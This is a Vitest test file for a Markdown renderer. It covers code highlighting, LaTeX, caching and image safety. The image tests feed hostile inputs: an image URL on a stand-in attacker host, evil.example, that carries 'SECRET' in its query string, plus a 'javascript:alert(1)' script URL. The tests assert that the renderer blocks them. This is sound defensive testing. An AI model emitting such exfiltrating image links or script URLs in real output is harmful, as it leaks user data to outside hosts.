import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { isMarkdownCached, renderMarkdown } from './markdown';

describe('renderMarkdown', () => {
  it('highlights code in every text, with one shared highlighter', () => {
    for (const name of ['first', 'second']) {
      const html = renderToStaticMarkup(renderMarkdown(`\`\`\`js\nconst ${name} = 1;\n\`\`\``, false));
      expect(html).toContain('<span class="hljs-keyword">const</span>');
      expect(html).toContain(name);
    }
  });

  it('renders math only when LaTeX parsing is on', () => {
    expect(renderToStaticMarkup(renderMarkdown('$x^2$', true))).toContain('katex');
    expect(renderToStaticMarkup(renderMarkdown('$x^2$', false))).not.toContain('katex');
  });

  it('answers a text rendered before from its cache', () => {
    const text = '**cached** text';
    expect(isMarkdownCached(text, false)).toBe(false);
    const first = renderMarkdown(text, false);
    expect(isMarkdownCached(text, false)).toBe(true);
    expect(isMarkdownCached(text, true)).toBe(false);
    expect(renderMarkdown(text, false)).toBe(first);
  });
});

describe('images in Markdown', () => {
  it('never loads a remote image by itself: it becomes a link naming its host', () => {
    const html = renderToStaticMarkup(
      renderMarkdown('![secret](https://evil.example/x.png?d=SECRET)', false),
    );
    expect(html).not.toContain('<img');
    expect(html).toContain('href="https://evil.example/x.png?d=SECRET"');
    expect(html).toContain('rel="noopener noreferrer nofollow"');
  });

  it("shows the user's own signed file links inline", () => {
    const html = renderToStaticMarkup(renderMarkdown('![chart](/api/files/content/abc-123?sig=xyz)', false));
    expect(html).toContain('<img src="/api/files/content/abc-123?sig=xyz"');
  });

  it('refuses other same-site paths and script URLs as images', () => {
    for (const src of ['/api/user', 'javascript:alert(1)', '//evil.example/x.png']) {
      expect(renderToStaticMarkup(renderMarkdown(`![x](${src})`, false))).not.toContain('<img');
    }
  });
});
